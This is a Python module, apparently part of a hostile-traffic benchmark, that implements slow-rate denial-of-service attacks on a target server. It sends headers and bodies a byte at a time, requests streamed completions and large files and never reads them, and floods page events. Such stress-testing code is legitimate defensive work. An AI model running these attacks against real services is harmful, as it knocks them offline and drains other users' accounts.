"""Attacks by being slow: who sends a byte now and then, and who never reads what was asked for."""

import asyncio

import orjson

from bench.hostile.attacks.calls import COMPLETIONS, form
from bench.hostile.attacks.sockets import event, page, sent
from bench.hostile.crowd import Crowd
from bench.hostile.wire import heading

BETWEEN_S = 0.5
"""Between two bytes."""
UNREAD = 4_096
"""Bytes that the kernel takes for a client that does not read."""
ANSWER = orjson.dumps({"script": {"tokens": 2_000, "rate": 400}}).decode()


async def slow_heads(crowd: Crowd, number: int) -> None:
    """Sends the head of a request a byte at a time."""
    async with crowd.wire(crowd.source(number)) as wire:
        for byte in heading("GET", "/login", crowd.target.port, {"X-Slow": "a" * 1_000}):
            await wire.send(bytes([byte]))
            await asyncio.sleep(BETWEEN_S)


async def slow_bodies(crowd: Crowd, number: int) -> None:
    """Sends a body a byte at a time: a form, or a completion with a free account's key."""
    key = crowd.target.keys[number % len(crowd.target.keys)]
    path, headers = ("/auth/login", form(crowd)) if number % 2 else (COMPLETIONS, {"Authorization": f"Bearer {key}"})
    async with crowd.wire(crowd.source(number)) as wire:
        length = {"Content-Length": str(60_000)}
        await wire.send(heading("POST", path, crowd.target.port, {**headers, **length}))
        while True:
            await wire.send(b" ")
            await asyncio.sleep(BETWEEN_S)


async def unread_streams(crowd: Crowd, number: int) -> None:
    """Asks for a long streamed answer and reads nothing of it."""
    key = crowd.target.keys[number % len(crowd.target.keys)]
    asked = {"stream": True, "max_tokens": 2_000, "messages": [{"role": "user", "content": ANSWER}]}
    body = orjson.dumps(asked)
    headers = {"Authorization": f"Bearer {key}", "Content-Length": str(len(body))}
    async with crowd.wire(crowd.source(number), UNREAD) as wire:
        await wire.send(heading("POST", COMPLETIONS, crowd.target.port, headers) + body)
        await asyncio.sleep(crowd.target.seconds)


async def unread_files(crowd: Crowd, number: int) -> None:
    """Asks for a large file, again and again over one connection, and reads nothing of it."""
    async with crowd.wire(crowd.source(number), UNREAD) as wire:
        await wire.send(heading("GET", crowd.target.asset, crowd.target.port, {}) * 20)
        await asyncio.sleep(crowd.target.seconds)


async def unread_pages(crowd: Crowd, number: int) -> None:
    """Asks a page's state anew for as often as a person may, and reads nothing of it."""
    cookie = crowd.target.cookies[number % len(crowd.target.cookies)]
    async with crowd.wire(crowd.source(number), UNREAD) as wire:
        if await page(crowd, wire, "/", cookie=cookie):
            while True:
                await wire.text(sent(event(crowd, "boot", vars={})))
                await wire.text(sent(event(crowd, "list_older")))
                await asyncio.sleep(0.25)
